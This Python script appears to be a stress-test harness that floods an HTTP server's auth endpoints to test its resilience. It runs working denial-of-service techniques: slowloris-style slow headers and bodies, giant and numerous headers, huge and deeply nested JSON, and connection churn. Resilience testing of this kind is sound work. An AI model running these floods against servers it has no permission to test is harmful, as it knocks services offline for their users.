"""A stranger who attacks a server: `attack.py URL SECONDS KIND`.

A program of its own that imports next to nothing, so that what it costs is not taken from the server it attacks. Prints
how often it did what it does.
"""

from __future__ import annotations

import asyncio
import contextlib
import sys
import time
from collections.abc import Awaitable, Callable

HOST = "Host: 127.0.0.1\r\n"
JSON = "Content-Type: application/json\r\n"
LARGE = b"[" + b"[]," * 2_600_000 + b"0]"
DEEP = b"[" * 60_000
AT_ONCE = 50


class Attack:
    """Connections to one server."""

    def __init__(self, url: str) -> None:
        host, port = url.removeprefix("http://").split(":")
        self.host, self.port = host, int(port)

    async def send(self, *pieces: bytes, pause: float = 0.0, wait: bool = True) -> None:
        """Send pieces on a connection of their own, and wait for what the server says."""
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(self.host, self.port)
            try:
                for piece in pieces:
                    writer.write(piece)
                    await writer.drain()
                    await asyncio.sleep(pause)
                if wait:
                    await reader.read()
            finally:
                writer.close()

    async def silent_connections(self) -> None:
        await self.send()

    async def slow_heads(self) -> None:
        await self.send(f"GET / HTTP/1.1\r\n{HOST}".encode(), *[b"X: y\r\n"] * 60, pause=0.5)

    async def giant_heads(self) -> None:
        await self.send(b"GET / HTTP/1.1\r\nX: ", *[b"y" * 65_536] * 200)

    async def many_headers(self) -> None:
        await self.send(f"GET / HTTP/1.1\r\n{HOST}".encode() + b"X: y\r\n" * 5_000 + b"\r\n")

    async def slow_bodies(self) -> None:
        await self.send(self._post("/api/auth/login", 1_000), *[b" "] * 60, pause=0.5)

    async def large_json(self) -> None:
        await self.send(self._post("/api/auth/refresh", len(LARGE)) + LARGE)

    async def renewals(self) -> None:
        body = b'{"refresh_token": "wrong"}'
        await self.send(self._post("/api/auth/refresh", len(body), "Connection: close\r\n") + body)

    async def deep_json(self) -> None:
        await self.send(self._post("/api/auth/login", len(DEEP), "Connection: close\r\n") + DEEP)

    async def churn(self) -> None:
        await self.send(wait=False)

    def _post(self, path: str, length: int, more: str = "") -> bytes:
        return f"POST {path} HTTP/1.1\r\n{HOST}{JSON}{more}Content-Length: {length}\r\n\r\n".encode()


KINDS = (
    "silent_connections",
    "slow_heads",
    "giant_heads",
    "many_headers",
    "slow_bodies",
    "large_json",
    "renewals",
    "deep_json",
    "churn",
)
MANY = {"silent_connections": 1_200, "slow_heads": 300, "slow_bodies": 300, "large_json": 4, "giant_heads": 8}
RATE = 100.0
"""Attempts a second of those that are over at once: what one machine sends without taking the server's processor."""


async def main(url: str, seconds: float, kind: str) -> int:
    attack: Callable[[], Awaitable[None]] = getattr(Attack(url), kind)
    ends, done = time.monotonic() + seconds, 0

    async def again() -> None:
        nonlocal done
        while time.monotonic() < ends:
            started = time.monotonic()
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(max(0.1, ends - started)):
                    await attack()
            done += 1
            least = 1.0 if kind in MANY else AT_ONCE / RATE
            await asyncio.sleep(max(0.0, started + least - time.monotonic()))

    async with asyncio.TaskGroup() as group:
        for _ in range(MANY.get(kind, AT_ONCE)):
            group.create_task(again())
    return done


if __name__ == "__main__":
    print(asyncio.run(main(sys.argv[1], float(sys.argv[2]), sys.argv[3])))
